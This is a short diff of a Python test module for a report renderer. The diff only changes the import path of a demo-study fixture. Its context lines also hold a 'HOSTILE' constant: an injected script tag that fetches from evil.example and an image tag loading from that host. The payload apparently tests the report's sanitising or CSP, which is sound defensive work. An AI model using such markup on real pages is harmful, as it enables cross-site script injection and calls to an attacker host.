@@ -8,7 +8,7 @@ import re
 from onegc_tui.report import CSP, render_report
 from onegc_tui.store import Store
 from onegc_tui.study_data import load_study
-from tests.app.fixtures import build_demo_study
+from tests.homes import build_demo_study
 
 HOSTILE = '<script>fetch("http://evil.example/x")</script><img src="http://evil.example/y.png">'
 
